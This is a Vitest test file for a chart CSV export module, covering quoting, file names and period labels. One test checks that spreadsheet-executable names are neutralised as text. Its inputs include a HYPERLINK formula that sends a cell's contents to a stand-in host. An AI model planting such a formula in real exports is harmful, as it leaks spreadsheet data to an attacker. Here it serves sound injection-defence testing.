import { expect, test } from 'vitest';
import { chartFileName, csvText, periodText } from './chart-data';

test('a chart’s CSV has a header, ISO times and plain numbers; missing values are empty, and zero is zero', () => {
  const text = csvText({
    columns: ['from', 'model', 'catch rate'],
    rows: [
      [new Date('2026-11-23T00:00:00Z'), 'a, "b"\nc', 0.25],
      [new Date('2026-11-24T00:00:00Z'), '', 0],
      [new Date('2026-11-25T00:00:00Z'), 'd', null],
      [new Date('2026-11-26T00:00:00Z'), 'e', Number.NaN],
    ],
  });
  expect(text).toBe(
    [
      'from,model,catch rate',
      '2026-11-23T00:00:00.000Z,"a, ""b""\nc",0.25',
      '2026-11-24T00:00:00.000Z,,0',
      '2026-11-25T00:00:00.000Z,d,',
      '2026-11-26T00:00:00.000Z,e,',
      '',
    ].join('\r\n'),
  );
});

test.each(['=1+1', '+1', '-1', '@x', '\tx', '\rx', '=HYPERLINK("https://evil.test?"&A1,"x")'])(
  'S-17 a name that a spreadsheet would execute becomes text, as a column and as a value: %j',
  (name) => {
    const cells = csvText({ columns: [name], rows: [[name], [`a ${name}`]] });
    const quoted = /[",\r\n]/.test(name) ? `"'${name.replaceAll('"', '""')}"` : `'${name}`;
    expect(cells.startsWith(`${quoted}\r\n${quoted}\r\n`)).toBe(true);
    expect(cells).not.toContain("'a ");
    // A number is safe.
    expect(csvText({ columns: ['n'], rows: [[-1]] })).toBe('n\r\n-1\r\n');
  },
);

test('files are named after their chart and day', () => {
  expect(chartFileName('PASS, RETRY, FAIL', new Date('2026-11-23T12:00:00Z'))).toBe(
    'assay-pass-retry-fail-2026-11-23',
  );
});

test.each([
  ['2026-11-17T00:00:00Z', '2026-11-23T12:00:00Z', '2026-11-17 to 2026-11-23 (UTC)'],
  ['2026-11-17T00:00:00Z', '2026-11-24T00:00:00Z', '2026-11-17 to 2026-11-23 (UTC)'],
  ['2026-11-23T00:00:00Z', '2026-11-23T12:00:00Z', '2026-11-23 (UTC)'],
  ['2026-11-23T00:00:00Z', undefined, 'Since 2026-11-23 (UTC)'],
  [null, undefined, 'All time'],
])('from %s to %s is %s', (from, to, text) => {
  expect(
    periodText(from === null ? null : new Date(from), to === undefined ? undefined : new Date(to)),
  ).toBe(text);
});
